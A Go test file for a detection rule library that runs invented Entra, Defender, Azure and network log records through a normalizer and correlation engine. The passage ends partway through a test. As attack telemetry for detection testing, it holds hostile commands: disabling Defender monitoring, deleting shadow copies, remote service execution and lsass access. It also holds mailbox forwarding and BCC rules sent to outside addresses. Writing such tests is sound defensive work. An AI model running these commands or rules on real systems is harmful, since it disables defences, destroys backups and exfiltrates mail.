// Package library_test checks the shipped rule library as a whole: it lints
// clean, every inline fixture passes through the real operators, its shape
// meets the project's bar (count, ATT&CK mapping, fixtures, sequences), and
// a few multi-stage attacks written as raw source records (invented values,
// real wire formats) go through the real normalizer and the engine, with
// alerts re-entering as events, and end in the chained detections.
//
// The end-to-end cases are what the inline fixtures cannot show: that the
// Source, Action, Type and Fields paths the rules rely on are the ones the
// normalizer actually produces.
package library_test

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/operators"
	"github.com/vigil-sec/vigil/pipeline/alert"
	"github.com/vigil-sec/vigil/pipeline/event"
	"github.com/vigil-sec/vigil/pipeline/normalize"
	"github.com/vigil-sec/vigil/rules"
	"github.com/vigil-sec/vigil/rules/ruletest"
)

// libDir is the directory of this file: the library root.
func libDir(t testing.TB) string {
	t.Helper()
	_, file, _, ok := runtime.Caller(0)
	if !ok {
		t.Fatal("runtime.Caller failed")
	}
	return filepath.Dir(file)
}

func loadSet(t testing.TB) *rules.Set {
	t.Helper()
	set, err := rules.LoadDir(libDir(t), rules.Options{})
	if err != nil {
		t.Fatalf("load library: %v", err)
	}
	return set
}

func TestLintClean(t *testing.T) {
	for _, d := range rules.Lint(libDir(t), rules.Options{}) {
		t.Errorf("%s", d)
	}
}

func TestFixturesPass(t *testing.T) {
	var out bytes.Buffer
	passed, failed, err := ruletest.RunTests(libDir(t), &out, false)
	if err != nil {
		t.Fatalf("run fixtures: %v", err)
	}
	if failed > 0 {
		t.Fatalf("%d fixtures failed:\n%s", failed, out.String())
	}
	if passed < 80 {
		t.Fatalf("only %d fixtures ran; the library should have at least two per rule", passed)
	}
}

// TestShape checks what the project asks of the library: at least 40 rules,
// each mapped to ATT&CK with at least one positive and one negative
// fixture; all five areas covered; at least 12 multi-stage rules.
func TestShape(t *testing.T) {
	set := loadSet(t)
	if n := len(set.Rules); n < 40 {
		t.Errorf("library has %d rules, want at least 40", n)
	}
	areas := map[string]int{}
	sequences := 0
	for _, r := range set.Rules {
		areas[strings.SplitN(r.ID, ".", 2)[0]]++
		if len(r.Spec.Tactics) == 0 || len(r.Spec.Techniques) == 0 {
			t.Errorf("%s: no ATT&CK tactics or techniques", r.ID)
		}
		pos, neg := false, false
		for _, tc := range r.Spec.Tests {
			switch {
			case tc.Expect.Count != nil && *tc.Expect.Count == 0:
				neg = true
			case (tc.Expect.Count != nil && *tc.Expect.Count > 0) || len(tc.Expect.Alerts) > 0:
				pos = true
			}
		}
		if !pos || !neg {
			t.Errorf("%s: positive fixture %v, negative fixture %v; want both", r.ID, pos, neg)
		}
		if r.Spec.Kind == "sequence" && len(r.Spec.Steps) >= 2 {
			sequences++
		}
	}
	for _, a := range []string{"identity", "endpoint", "network", "cloud", "email"} {
		if areas[a] == 0 {
			t.Errorf("no rule in area %s", a)
		}
	}
	if sequences < 12 {
		t.Errorf("%d multi-step sequence rules, want at least 12", sequences)
	}
}

// TestNoSharedSampleContent guards the rule that sample records are never
// copied into the repository: no library file may contain a distinctive
// line of ../shared/samples.
func TestNoSharedSampleContent(t *testing.T) {
	samples := filepath.Join(libDir(t), "..", "..", "..", "shared", "samples")
	if _, err := os.Stat(samples); err != nil {
		t.Skipf("shared samples not found at %s: nothing to compare against", samples)
	}
	var lib []string
	_ = filepath.WalkDir(libDir(t), func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() && (strings.HasSuffix(p, ".yaml") || strings.HasSuffix(p, ".csv")) {
			b, _ := os.ReadFile(p)
			lib = append(lib, string(b))
		}
		return nil
	})
	all := strings.Join(lib, "\n")
	_ = filepath.WalkDir(samples, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || strings.HasSuffix(p, ".md") {
			return nil
		}
		b, _ := os.ReadFile(p)
		for _, line := range strings.Split(string(b), "\n") {
			// Long GUID-bearing or id-bearing lines are distinctive; short ones
			// ("{", field names) are not.
			line = strings.TrimSpace(line)
			if len(line) >= 60 && strings.Contains(all, line) {
				t.Errorf("library contains a line of %s: %.80s", p, line)
			}
		}
		return nil
	})
}

// pipeline runs raw records through normalize and the engine with the whole
// library, feeding every alert back as an event the way the correlate stage
// does, and returns the alerts by rule id.
type pipeline struct {
	t      *testing.T
	set    *rules.Set
	eng    *operators.Engine
	alerts map[string][]alert.Alert
}

func newPipeline(t *testing.T) *pipeline {
	set := loadSet(t)
	eng, err := operators.NewEngine(set, operators.NewMemStore(), operators.Options{Lateness: time.Hour})
	if err != nil {
		t.Fatalf("engine: %v", err)
	}
	return &pipeline{t: t, set: set, eng: eng, alerts: map[string][]alert.Alert{}}
}

// raw parses one raw message and processes its events in order.
func (p *pipeline) raw(hint, msg string) {
	p.t.Helper()
	evs, errs := normalize.Parse(hint, []byte(msg), time.Date(2030, 1, 1, 0, 0, 0, 0, time.UTC))
	for _, e := range errs {
		p.t.Fatalf("normalize %s: %v", hint, e)
	}
	if len(evs) == 0 {
		p.t.Fatalf("normalize %s: no event from %.120s", hint, msg)
	}
	for i := range evs {
		p.event(&evs[i])
	}
}

func (p *pipeline) event(ev *event.Event) {
	p.t.Helper()
	for _, ks := range p.set.Keyspaces() {
		for _, k := range ev.Keys(ks) {
			as, err := p.eng.Process(ks, k, ev)
			if err != nil {
				p.t.Fatalf("process %s under %s=%s: %v", ev.ID, ks, k, err)
			}
			p.emit(as)
		}
	}
}

func (p *pipeline) emit(as []alert.Alert) {
	for i := range as {
		a := as[i]
		p.alerts[a.RuleID] = append(p.alerts[a.RuleID], a)
		ae := operators.AlertEvent(&a)
		p.event(&ae)
	}
}

func (p *pipeline) finish(at time.Time) {
	as, err := p.eng.Advance(at)
	if err != nil {
		p.t.Fatalf("advance: %v", err)
	}
	p.emit(as)
}

func (p *pipeline) want(ids ...string) {
	p.t.Helper()
	for _, id := range ids {
		if len(p.alerts[id]) == 0 {
			var got []string
			for k, v := range p.alerts {
				got = append(got, fmt.Sprintf("%s×%d", k, len(v)))
			}
			sort.Strings(got)
			p.t.Errorf("no alert from %s; got %v", id, got)
		}
	}
}

func (p *pipeline) notWant(ids ...string) {
	p.t.Helper()
	for _, id := range ids {
		if n := len(p.alerts[id]); n > 0 {
			p.t.Errorf("%d unexpected alerts from %s", n, id)
		}
	}
}

func ts(base time.Time, d time.Duration) string {
	return base.Add(d).Format("2006-01-02T15:04:05.0000000Z")
}

// signIn is an Entra diagnostic-settings sign-in record.
func signIn(at, user, ip, code, risk string) string {
	errCode := code
	return fmt.Sprintf(`{"time":%q,"resourceId":"/tenants/0b7c5e4a-0000-4000-8000-00000000c0de/providers/Microsoft.aadiam","operationName":"Sign-in activity","category":"SignInLogs","tenantId":"0b7c5e4a-0000-4000-8000-00000000c0de","resultType":%q,"resultSignature":"None","durationMs":0,"callerIpAddress":%q,"correlationId":"c0ffee00-0000-4000-8000-%012d","identity":"User","Level":4,"location":"NL","properties":{"id":"sid-%s-%s","createdDateTime":%q,"userPrincipalName":%q,"userId":"u-%s","appId":"00000002-0000-0ff1-ce00-000000000000","appDisplayName":"Office 365 Exchange Online","ipAddress":%q,"clientAppUsed":"Browser","isInteractive":true,"status":{"errorCode":%s},"location":{"city":"Amsterdam","countryOrRegion":"NL"},"riskLevelDuringSignIn":%q,"riskLevelAggregated":"none","riskState":"none"}}`,
		at, code, ip, len(user), user, at, at, user, user, ip, errCode, risk)
}

func TestEndToEndSprayToMFAChange(t *testing.T) {
	p := newPipeline(t)
	base := time.Date(2025, 9, 2, 2, 0, 0, 0, time.UTC)
	const ip = "198.51.100.61"
	var recs []string
	for i := 0; i < 11; i++ {
		recs = append(recs, signIn(ts(base, time.Duration(i)*40*time.Second), fmt.Sprintf("user%02d@fabrikam.example", i), ip, "50126", "none"))
	}
	p.raw("entra", `{"records":[`+strings.Join(recs, ",")+`]}`)
	p.raw("entra", `{"records":[`+signIn(ts(base, 25*time.Minute), "user07@fabrikam.example", ip, "0", "none")+`]}`)
	p.raw("entra", fmt.Sprintf(`{"records":[{"time":%q,"resourceId":"/tenants/0b7c5e4a-0000-4000-8000-00000000c0de/providers/Microsoft.aadiam","operationName":"User registered security info","operationVersion":"1.0","category":"AuditLogs","tenantId":"0b7c5e4a-0000-4000-8000-00000000c0de","resultSignature":"None","durationMs":0,"callerIpAddress":"<null>","correlationId":"c0ffee00-0000-4000-8000-0000000000aa","identity":"Microsoft Authentication Methods","Level":4,"properties":{"id":"Directory_x_1","category":"UserManagement","correlationId":"c0ffee00-0000-4000-8000-0000000000aa","result":"success","resultReason":"User registered Authenticator App with Notification and Code","activityDisplayName":"User registered security info","activityDateTime":%q,"loggedByService":"Authentication Methods","operationType":"Add","initiatedBy":{"user":{"id":"u-7","displayName":null,"userPrincipalName":"user07@fabrikam.example","ipAddress":%q}},"targetResources":[{"id":"u-7","displayName":null,"type":"User","userPrincipalName":"user07@fabrikam.example","modifiedProperties":[]}],"additionalDetails":[]}}]}`,
		ts(base, 50*time.Minute), ts(base, 50*time.Minute), ip))
	p.finish(base.Add(6 * time.Hour))
	p.want("identity.password_spray", "identity.failed_signins_from_ip", "identity.spray_then_success", "identity.spray_signin_mfa_change")
	if a := p.alerts["identity.spray_signin_mfa_change"]; len(a) > 0 && a[0].Key != "user07@fabrikam.example" {
		t.Errorf("spray_signin_mfa_change keyed by %q, want the compromised user", a[0].Key)
	}
}

// defenderRec is one Defender XDR streaming-API record.
func defenderRec(table, at, device string, props string) string {
	return fmt.Sprintf(`{"time":%q,"tenantId":"0b7c5e4a-0000-4000-8000-00000000c0de","operationName":"Publish","category":"AdvancedHunting-%s","properties":{"Timestamp":%q,"DeviceId":"4e1d0c1a9b8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d","DeviceName":%q,"MachineGroup":null,%s},"Tenant":"DefaultTenant"}`,
		at, table, at, device, props)
}

func TestEndToEndRansomware(t *testing.T) {
	p := newPipeline(t)
	base := time.Date(2025, 9, 3, 1, 0, 0, 0, time.UTC)
	const dev = "fs-09.fabrikam.example"
	p.raw("defender", `{"records":[`+defenderRec("DeviceProcessEvents", ts(base, 0), dev,
		`"ActionType":"ProcessCreated","ReportId":101,"FileName":"powershell.exe","FolderPath":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","ProcessCommandLine":"powershell.exe -c Set-MpPreference -DisableRealtimeMonitoring 1","AccountDomain":"fabrikam","AccountName":"svc-x","InitiatingProcessFileName":"cmd.exe","ProcessId":4410,"InitiatingProcessId":4400`)+`]}`)
	p.raw("defender", `{"records":[`+defenderRec("DeviceProcessEvents", ts(base, 4*time.Minute), dev,
		`"ActionType":"ProcessCreated","ReportId":102,"FileName":"vssadmin.exe","FolderPath":"C:\\Windows\\System32\\vssadmin.exe","ProcessCommandLine":"vssadmin  delete shadows /all /quiet","AccountDomain":"fabrikam","AccountName":"svc-x","InitiatingProcessFileName":"cmd.exe","ProcessId":4420`)+`]}`)
	var recs []string
	for i := 0; i < 70; i++ {
		recs = append(recs, defenderRec("DeviceFileEvents", ts(base, 10*time.Minute+time.Duration(i)*time.Second), dev,
			fmt.Sprintf(`"ActionType":"FileRenamed","ReportId":%d,"FileName":"plan%03d.xlsx.b7x","FolderPath":"D:\\Data\\plan%03d.xlsx.b7x","PreviousFileName":"plan%03d.xlsx","PreviousFolderPath":"D:\\Data\\","InitiatingProcessFileName":"winupd.exe","InitiatingProcessFolderPath":"C:\\ProgramData\\winupd.exe","InitiatingProcessAccountDomain":"fabrikam","InitiatingProcessAccountName":"svc-x"`, 200+i, i, i, i)))
	}
	p.raw("defender", `{"records":[`+strings.Join(recs, ",")+`]}`)
	p.finish(base.Add(6 * time.Hour))
	p.want("endpoint.defender_tampering", "endpoint.shadow_copy_deletion", "endpoint.mass_file_rename",
		"endpoint.tamper_and_recovery_inhibition", "endpoint.ransomware_tamper_shadow_encrypt")
}

func TestEndToEndCloudMining(t *testing.T) {
	p := newPipeline(t)
	base := time.Date(2025, 9, 4, 13, 0, 0, 0, time.UTC)
	const user = "ops.cloud@fabrikam.example"
	p.raw("entra", `{"records":[`+signIn(ts(base, 0), user, "203.0.113.140", "0", "high")+`]}`)
	vm := "/SUBSCRIPTIONS/9A8B7C6D-0000-4000-8000-000000000001/RESOURCEGROUPS/RG-WEB/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINES/VM-WEB-3"
	p.raw("azure", fmt.Sprintf(`{"records":[{"time":%q,"resourceId":%q,"operationName":"MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION","category":"Action","resultType":"Success","resultSignature":"Succeeded.OK","durationMs":"4096","callerIpAddress":"203.0.113.140","correlationId":"c0ffee00-0000-4000-8000-0000000000bb","identity":{"authorization":{"scope":%q,"action":"Microsoft.Compute/virtualMachines/runCommand/action"},"claims":{"http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn":%q,"ipaddr":"203.0.113.140"}},"level":"Information","location":"global","properties":{"statusCode":"OK","eventCategory":"Administrative"}}]}`,
		ts(base, 40*time.Minute), vm, vm, user))
	p.raw("mdc", fmt.Sprintf(`{"SystemAlertId":"2516999999999999999_0a1b2c3d","AlertType":"VM_CryptoCoinMinerExecution","AlertDisplayName":"Possible crypto coin miner execution","Description":"A process associated with digital currency mining was detected.","Severity":"High","Status":"Active","Intent":"Impact","StartTimeUtc":%q,"EndTimeUtc":%q,"TimeGenerated":%q,"CompromisedEntity":"vm-web-3","AzureResourceId":"/subscriptions/9a8b7c6d-0000-4000-8000-000000000001/resourceGroups/rg-web/providers/Microsoft.Compute/virtualMachines/vm-web-3","VendorName":"Microsoft","ProductName":"Azure Security Center","Entities":[]}`,
		ts(base, 3*time.Hour), ts(base, 3*time.Hour), ts(base, 3*time.Hour)))
	p.finish(base.Add(30 * time.Hour))
	p.want("identity.risky_signin", "cloud.vm_run_command", "cloud.crypto_mining_alert",
		"cloud.suspicious_signin_then_run_command", "cloud.run_command_then_mining_alert", "cloud.signin_run_command_mining")
}

func TestEndToEndMFAFatigueInboxRule(t *testing.T) {
	p := newPipeline(t)
	base := time.Date(2025, 9, 5, 22, 0, 0, 0, time.UTC)
	const user = "l.meyer@fabrikam.example"
	var recs []string
	for i := 0; i < 6; i++ {
		recs = append(recs, signIn(ts(base, time.Duration(i)*90*time.Second), user, "192.0.2.190", "500121", "none"))
	}
	p.raw("entra", `{"records":[`+strings.Join(recs, ",")+`]}`)
	p.raw("entra", `{"records":[`+signIn(ts(base, 12*time.Minute), user, "192.0.2.190", "0", "none")+`]}`)
	p.raw("defender", `{"records":[{"time":"`+ts(base, 70*time.Minute)+`","tenantId":"0b7c5e4a-0000-4000-8000-00000000c0de","operationName":"Publish","category":"AdvancedHunting-CloudAppEvents","properties":{"Timestamp":"`+ts(base, 70*time.Minute)+`","ActionType":"New-InboxRule","Application":"Microsoft Exchange Online","ApplicationId":20893,"AccountObjectId":"u-l","AccountId":"`+user+`","AccountDisplayName":"L Meyer","IPAddress":"192.0.2.190","CountryCode":"NL","ReportId":"r-1","RawEventData":{"CreationTime":"2025-09-05T23:10:00","Operation":"New-InboxRule","UserId":"`+user+`","ResultStatus":"True","Parameters":[{"Name":"Name","Value":".."},{"Name":"SubjectContainsWords","Value":"invoice"},{"Name":"MoveToFolder","Value":"RSS Feeds"},{"Name":"MarkAsRead","Value":"True"}]},"IsAdminOperation":false}}]}`)
	p.finish(base.Add(6 * time.Hour))
	p.want("identity.mfa_fatigue", "identity.mfa_fatigue_then_signin", "email.suspicious_inbox_rule", "identity.mfa_fatigue_signin_inbox_rule")
	p.notWant("identity.password_spray")
}

// cloudApp is a Defender XDR CloudAppEvents streaming record for an
// Exchange Online operation with the given audit parameters.
func cloudApp(at, user, ip, op, params string) string {
	return fmt.Sprintf(`{"time":%q,"tenantId":"0b7c5e4a-0000-4000-8000-00000000c0de","operationName":"Publish","category":"AdvancedHunting-CloudAppEvents","properties":{"Timestamp":%q,"ActionType":%q,"Application":"Microsoft Exchange Online","ApplicationId":20893,"AccountObjectId":"oid-1","AccountId":%q,"AccountDisplayName":"X","IPAddress":%q,"CountryCode":"NL","ReportId":"r-%s-%s","RawEventData":{"CreationTime":%q,"Operation":%q,"UserId":%q,"ResultStatus":"True","Parameters":%s},"IsAdminOperation":true}}`,
		at, at, op, user, ip, op, at, at, op, user, params)
}

func TestEndToEndFailedSigninsVPNScan(t *testing.T) {
	p := newPipeline(t)
	base := time.Date(2025, 9, 6, 3, 0, 0, 0, time.UTC)
	const pub = "198.51.100.170"
	var recs []string
	for i := 0; i < 7; i++ {
		recs = append(recs, signIn(ts(base, time.Duration(i)*time.Minute), fmt.Sprintf("staff%d@fabrikam.example", i%3), pub, "50126", "none"))
	}
	p.raw("entra", `{"records":[`+strings.Join(recs, ",")+`]}`)
	vpnAt := base.Add(30 * time.Minute)
	p.raw("cef", fmt.Sprintf("CEF:0|Fortinet|FortiGate|7.2.4|0101039947|ssl-vpn tunnel-up|3|rt=%d src=%s spt=51000 dst=192.0.2.1 dpt=443 suser=r.diaz act=tunnel-up msg=SSL VPN tunnel up FTNTFGTtunnelip=10.212.134.77 FTNTFGTtunneltype=ssl-tunnel",
		vpnAt.UnixMilli(), pub))
	var tuples []string
	scanAt := base.Add(50 * time.Minute).Unix()
	for i := 0; i < 60; i++ {
		tuples = append(tuples, fmt.Sprintf(`"%d,10.212.134.77,10.1.2.%d,%d,%d,T,O,D,B,,,,"`, scanAt+int64(i*3), i/10+1, 50000+i, []int{22, 80, 135, 139, 443, 445, 1433, 3306, 3389, 5985}[i%10]))
	}
	p.raw("nsg", fmt.Sprintf(`{"records":[{"time":%q,"systemId":"5e1f0000-0000-4000-8000-000000000001","macAddress":"000D3A0000AA","category":"NetworkSecurityGroupFlowEvent","resourceId":"/SUBSCRIPTIONS/9A8B7C6D-0000-4000-8000-000000000001/RESOURCEGROUPS/RG-NET/PROVIDERS/MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/NSG-CORE","operationName":"NetworkSecurityGroupFlowEvents","properties":{"Version":2,"flows":[{"rule":"DefaultRule_DenyAllOutBound","flows":[{"mac":"000D3A0000AA","flowTuples":[%s]}]}]}}]}`,
		ts(base, 53*time.Minute), strings.Join(tuples, ",")))
	p.finish(base.Add(8 * time.Hour))
	p.want("identity.failed_signins_from_ip", "network.vpn_login_success", "network.failed_signins_then_vpn_login",
		"network.internal_port_scan", "network.vpn_login_then_internal_scan")
	p.notWant("identity.password_spray")
}

func TestEndToEndOfficeDropperC2(t *testing.T) {
	p := newPipeline(t)
	base := time.Date(2025, 9, 7, 8, 0, 0, 0, time.UTC)
	const user, dev = "h.kim@fabrikam.example", "lt-0193.fabrikam.example"
	p.raw("defender", `{"records":[{"time":"`+ts(base, 0)+`","tenantId":"t","operationName":"Publish","category":"AdvancedHunting-EmailAttachmentInfo","properties":{"Timestamp":"`+ts(base, 0)+`","NetworkMessageId":"9e8d7c6b-0000-4000-8000-0000000000e1","SenderFromAddress":"ap@vendor-billing.example","SenderDisplayName":"Accounts","RecipientEmailAddress":"`+user+`","RecipientObjectId":"oid-h","FileName":"PO_88213.xlsm","FileType":"xlsm","SHA256":"0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0","FileSize":48211,"ThreatTypes":"","DetectionMethods":"","ReportId":"e-1"}}]}`)
	const exe = `C:\\Users\\h.kim\\AppData\\Local\\Temp\\msupd32.exe`
	p.raw("defender", `{"records":[`+defenderRec("DeviceFileEvents", ts(base, 20*time.Minute), dev,
		`"ActionType":"FileCreated","ReportId":301,"FileName":"msupd32.exe","FolderPath":"`+exe+`","SHA256":"aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44ee55ff66aa11bb22cc33dd44","InitiatingProcessFileName":"EXCEL.EXE","InitiatingProcessFolderPath":"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE","InitiatingProcessAccountUpn":"`+user+`","InitiatingProcessAccountName":"h.kim","InitiatingProcessAccountDomain":"fabrikam"`)+`]}`)
	p.raw("defender", `{"records":[`+defenderRec("DeviceProcessEvents", ts(base, 21*time.Minute), dev,
		`"ActionType":"ProcessCreated","ReportId":302,"FileName":"msupd32.exe","FolderPath":"`+exe+`","ProcessCommandLine":"msupd32.exe -k","ProcessId":7712,"AccountUpn":"`+user+`","InitiatingProcessFileName":"EXCEL.EXE","InitiatingProcessId":5120`)+`]}`)
	p.raw("defender", `{"records":[`+defenderRec("DeviceNetworkEvents", ts(base, 22*time.Minute), dev,
		`"ActionType":"ConnectionSuccess","ReportId":303,"LocalIP":"10.30.5.44","LocalPort":52211,"RemoteIP":"192.0.2.222","RemotePort":443,"RemoteIPType":"Public","Protocol":"Tcp","InitiatingProcessFileName":"msupd32.exe","InitiatingProcessFolderPath":"`+exe+`","InitiatingProcessId":7712,"InitiatingProcessAccountUpn":"`+user+`"`)+`]}`)
	p.raw("firewall", `{"records":[{"time":"`+ts(base, 22*time.Minute+20*time.Second)+`","resourceId":"/SUBSCRIPTIONS/9A8B7C6D-0000-4000-8000-000000000001/RESOURCEGROUPS/RG-NET/PROVIDERS/MICROSOFT.NETWORK/AZUREFIREWALLS/FW-HUB","category":"AZFWThreatIntel","properties":{"Protocol":"TCP","SourceIp":"10.30.5.44","SourcePort":52211,"DestinationIp":"192.0.2.222","DestinationPort":443,"Action":"Deny","ThreatDescription":"This is a known malicious IP address"}}]}`)
	p.finish(base.Add(30 * time.Hour))
	p.want("email.risky_attachment_delivered", "email.attachment_then_office_dropper", "endpoint.office_writes_executable",
		"endpoint.office_dropper_execute_connect", "network.firewall_threat_alert", "endpoint.office_dropper_firewall_c2")
}

func TestEndToEndCredentialTheftLateral(t *testing.T) {
	p := newPipeline(t)
	base := time.Date(2025, 9, 8, 9, 0, 0, 0, time.UTC)
	const user = "n.ito@fabrikam.example"
	p.raw("entra", `{"records":[`+signIn(ts(base, 0), user, "203.0.113.44", "0", "medium")+`]}`)
	p.raw("defender", `{"records":[`+defenderRec("DeviceEvents", ts(base, 3*time.Hour), "wks-0555.fabrikam.example",
		`"ActionType":"OpenProcessApiCall","ReportId":401,"FileName":"lsass.exe","FolderPath":"C:\\Windows\\System32\\lsass.exe","LocalIP":"10.30.7.15","InitiatingProcessFileName":"perfhlp.exe","InitiatingProcessFolderPath":"C:\\Users\\Public\\perfhlp.exe","InitiatingProcessAccountUpn":"`+user+`","AdditionalFields":"{\"DesiredAccess\":\"0x1010\"}"`)+`]}`)
	p.raw("defender", `{"records":[`+defenderRec("DeviceLogonEvents", ts(base, 3*time.Hour+25*time.Minute), "srv-fin-02.fabrikam.example",
		`"ActionType":"LogonSuccess","ReportId":402,"LogonType":"Network","Protocol":"NTLM","AccountName":"adm-backup","AccountDomain":"fabrikam","RemoteIP":"10.30.7.15","RemotePort":50110,"RemoteDeviceName":"wks-0555","IsLocalAdmin":true`)+`]}`)
	p.raw("defender", `{"records":[`+defenderRec("DeviceProcessEvents", ts(base, 3*time.Hour+25*time.Minute+2*time.Second), "srv-fin-02.fabrikam.example",
		`"ActionType":"ProcessCreated","ReportId":403,"FileName":"cmd.exe","FolderPath":"C:\\Windows\\System32\\cmd.exe","ProcessCommandLine":"cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__7766 2>&1","AccountName":"system","AccountDomain":"nt authority","InitiatingProcessFileName":"services.exe","InitiatingProcessId":680`)+`]}`)
	p.finish(base.Add(30 * time.Hour))
	p.want("identity.risky_signin", "endpoint.lsass_access", "identity.risky_signin_then_lsass",
		"endpoint.credential_theft_then_network_logon", "endpoint.remote_service_execution", "endpoint.network_logon_then_service_execution")
}

func TestEndToEndDormantAdminRedirect(t *testing.T) {
	p := newPipeline(t)
	base := time.Date(2025, 9, 9, 21, 0, 0, 0, time.UTC)
	const admin = "legacy.exadmin@fabrikam.example"
	p.raw("defender", `{"records":[`+cloudApp(ts(base, 0), admin, "203.0.113.71", "Set-AdminAuditLogConfig",
		`[{"Name":"UnifiedAuditLogIngestionEnabled","Value":"False"}]`)+`]}`)
	p.raw("defender", `{"records":[`+cloudApp(ts(base, 40*time.Minute), admin, "203.0.113.71", "New-TransportRule",
		`[{"Name":"Name","Value":"Retention journal"},{"Name":"FromScope","Value":"InOrganization"},{"Name":"BlindCopyTo","Value":"journal@archive-store.example"}]`)+`]}`)
	p.finish(base.Add(72 * time.Hour))
	p.want("email.new_admin_activity", "email.audit_disabled", "email.transport_rule_redirect", "email.dormant_admin_audit_off_redirect")
}

// signInRisk is signIn with risk event types (diagnostic form).
func signInRisk(at, user, ip, risk, types string) string {
	s := signIn(at, user, ip, "0", risk)
	return strings.Replace(s, `"riskState":"none"`, `"riskState":"atRisk","riskEventTypes_v2":`+types, 1)
}

func TestEndToEndAiTMToForwarding(t *testing.T) {
	p := newPipeline(t)
	base := time.Date(2025, 9, 10, 7, 0, 0, 0, time.UTC)
	const user, proxy = "q.adams@fabrikam.example", "192.0.2.213"
	p.raw("defender", `{"records":[{"time":"`+ts(base, 0)+`","tenantId":"t","operationName":"Publish","category":"AdvancedHunting-UrlClickEvents","properties":{"Timestamp":"`+ts(base, 0)+`","Url":"https://fabrikam-sso.example.net/login","ActionType":"ClickAllowed","AccountUpn":"`+user+`","Workload":"Email","NetworkMessageId":"m-2","ThreatTypes":"","IsClickedThrough":false,"UrlChain":"[]","IPAddress":"10.30.9.8","ReportId":"c-1"}}]}`)
	p.raw("defender", `{"records":[`+defenderRec("DeviceNetworkEvents", ts(base, 1*time.Minute), "lt-0201.fabrikam.example",
		`"ActionType":"ConnectionSuccess","ReportId":501,"LocalIP":"10.30.9.8","LocalPort":53001,"RemoteIP":"`+proxy+`","RemotePort":443,"RemoteUrl":"fabrikam-sso.example.net","Protocol":"Tcp","InitiatingProcessFileName":"msedge.exe","InitiatingProcessAccountUpn":"`+user+`"`)+`]}`)
	p.raw("entra", `{"records":[`+signInRisk(ts(base, 4*time.Minute), user, proxy, "high", `["attackerinTheMiddle"]`)+`]}`)
	p.raw("defender", `{"records":[`+cloudApp(ts(base, 90*time.Minute), user, proxy, "Set-Mailbox",
		`[{"Name":"Identity","Value":"`+user+`"},{"Name":"ForwardingSmtpAddress","Value":"smtp:q.adams.files@mailbox.example"},{"Name":"DeliverToMailboxAndForward","Value":"True"}]`)+`]}`)
	p.finish(base.Add(10 * time.Hour))
	p.want("identity.aitm_signin", "identity.aitm_proxy_signin", "email.mailbox_forwarding", "email.aitm_click_signin_inbox_rule")
}

func TestEndToEndConsentBulkMailRead(t *testing.T) {
	p := newPipeline(t)
	base := time.Date(2025, 9, 11, 10, 0, 0, 0, time.UTC)
	const user = "r.silva@fabrikam.example"
	p.raw("entra", `{"records":[`+signIn(ts(base, 0), user, "203.0.113.19", "0", "medium")+`]}`)
	p.raw("entra", fmt.Sprintf(`{"records":[{"time":%q,"resourceId":"/tenants/t/providers/Microsoft.aadiam","operationName":"Consent to application","category":"AuditLogs","tenantId":"t","properties":{"id":"Directory_c_2","category":"ApplicationManagement","result":"success","activityDisplayName":"Consent to application","activityDateTime":%q,"loggedByService":"Core Directory","operationType":"Assign","initiatedBy":{"user":{"id":"oid-r","userPrincipalName":%q,"ipAddress":"203.0.113.19"}},"targetResources":[{"id":"sp-1","displayName":"DocuReader Sync","type":"ServicePrincipal","modifiedProperties":[{"displayName":"ConsentContext.IsAdminConsent","oldValue":null,"newValue":"\"False\""},{"displayName":"ConsentAction.Permissions","oldValue":null,"newValue":"\"[] => [[Id: x, ClientId: sp-1, ConsentType: Principal, Scope: Mail.Read offline_access openid]]; \""}]}]}}]}`,
		ts(base, 8*time.Minute), ts(base, 8*time.Minute), user))
	var recs []string
	for i := 0; i < 3; i++ {
		at := ts(base, 9*time.Hour+time.Duration(i)*10*time.Minute)
		recs = append(recs, fmt.Sprintf(`{"time":%q,"tenantId":"t","operationName":"Publish","category":"AdvancedHunting-CloudAppEvents","properties":{"Timestamp":%q,"ActionType":"MailItemsAccessed","Application":"Microsoft Exchange Online","AccountId":%q,"AccountObjectId":"oid-r","IPAddress":"198.51.100.230","ReportId":"mia-%d","RawEventData":{"Operation":"MailItemsAccessed","MailboxOwnerUPN":%q,"AppId":"3f0c5a1e-0000-4000-8000-00000000d0c5","ClientAppId":"3f0c5a1e-0000-4000-8000-00000000d0c5","OperationCount":25,"MailAccessType":"Bind"}}}`,
			at, at, user, i, user))
	}
	p.raw("defender", `{"records":[`+strings.Join(recs, ",")+`]}`)
	p.finish(base.Add(40 * time.Hour))
	p.want("identity.risky_signin", "identity.app_consent_risky_scopes", "email.bulk_mail_access", "identity.risky_signin_consent_mail_access")
}

func TestEndToEndMassDeletionAndCradle(t *testing.T) {
	p := newPipeline(t)
	base := time.Date(2025, 9, 12, 15, 0, 0, 0, time.UTC)
	const user = "platform.admin@fabrikam.example"
	p.raw("entra", `{"records":[`+signIn(ts(base, 0), user, "203.0.113.97", "0", "high")+`]}`)
	var recs []string
	for i, kind := range []string{"VIRTUALMACHINES/VM-A", "DISKS/VM-A_OSDISK", "SNAPSHOTS/SNAP-1", "STORAGEACCOUNTS/STBACKUP01", "VIRTUALMACHINES/VM-B"} {
		prov := "MICROSOFT.COMPUTE"
		if strings.HasPrefix(kind, "STORAGE") {
			prov = "MICROSOFT.STORAGE"
		}
		typ := strings.SplitN(kind, "/", 2)[0]
